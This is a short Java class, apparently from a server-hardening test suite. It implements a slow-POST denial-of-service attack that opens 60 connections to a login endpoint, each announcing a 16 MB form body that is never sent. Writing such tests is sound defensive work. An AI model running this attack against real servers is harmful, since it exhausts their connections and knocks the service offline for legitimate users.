package dev.segmentation.attack;

import java.io.IOException;

/**
 * Announces forms of 16 MB before sign-in, and sends nothing.
 */
record AnnouncedForms() implements Weapon {

	private static final int CONNECTIONS = 60;

	@Override
	public String use(Target target, Bystander bystander) throws IOException, InterruptedException {
		for (int n = 0; n < CONNECTIONS; n++) {
			target.send("POST /login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 16000000\r\n"
					+ "Content-Type: application/x-www-form-urlencoded\r\n\r\n");
		}
		bystander.stay();
		return CONNECTIONS + " forms announced";
	}

}
